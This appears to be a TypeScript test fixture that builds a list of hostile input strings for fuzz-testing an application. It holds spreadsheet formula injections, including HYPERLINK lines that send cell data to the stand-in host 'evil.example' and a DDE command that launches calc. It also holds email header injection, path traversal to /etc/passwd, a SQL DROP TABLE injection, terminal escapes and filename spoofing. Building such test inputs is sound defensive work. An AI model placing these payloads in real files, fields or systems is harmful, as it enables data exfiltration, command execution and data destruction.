import naughtyStrings from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import { trials } from "../faults/faults.ts";
import { xssVectors } from "./xss-vectors.ts";

/** Texts that may begin a formula. */
export const formulas = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"].map(
  (trigger) => `${trigger}HYPERLINK("https://evil.example/?"&A1,"x")`,
);

/** Texts that begin a formula or a date in a spreadsheet with a different separator from ours. */
const separated = [
  ...[";", "\t", "|", "\n", "\r", "\r\n"].map((separator) => `x${separator}=1+cmd|' /C calc'!A0`),
  'x;"=WEBSERVICE(CHAR(104)&A2)";y',
  'x; \t"\uff1d1"|y',
  "2-5",
  "6-10",
  "24/7",
  "May 5",
];

/** Texts that break lines, headers, paths, queries or the order of letters, or are not valid text. */
const breaking = [
  'x\r\nBcc: evil@example.com\r\n\r\n{"level":60,"msg":"forged"}',
  "x\u2028y\u2029z\u0085",
  "\u001b[2J\u001b]0;title\u0007",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "x'); DROP TABLE records; --",
  "\u202egnp.exe\u2066\u202d",
  "\ud83d",
  "x\udc00y",
  "\u0000",
  "__proto__",
  `{{client}} {{link}} %s %n \${PATH}`,
  "e\u0301".normalize("NFD").repeat(50),
  `x${"\u0301".repeat(500)}`,
];

const ours = [...xssVectors, ...formulas, ...separated, ...breaking];

/** All texts that are known to have broken something, except the empty one. */
export const hostileStrings = [...new Set([...ours, ...naughtyStrings.filter((text) => text !== "")])];

/**
 * Our own texts and every tenth of the published list, for tests with a call for each; the long form takes all of them.
 */
export function someHostileStrings(): string[] {
  return hostileStrings.filter((_, place) => place < ours.length || place % trials(10, 1) === 0);
}

/** Splits a list into pieces of at most `size` items. */
export function inPieces<Item>(items: readonly Item[], size: number): Item[][] {
  const count = Math.ceil(items.length / size);
  return Array.from({ length: count }, (_, place) => items.slice(place * size, (place + 1) * size));
}

/** Joins all texts with spaces into as few pieces of at most `maxLength` characters as possible. */
export function packed(texts: readonly string[], maxLength: number): string[] {
  const whole = texts.join(" ");
  return Array.from({ length: Math.ceil(whole.length / maxLength) }, (_, place) =>
    whole.slice(place * maxLength, (place + 1) * maxLength),
  );
}
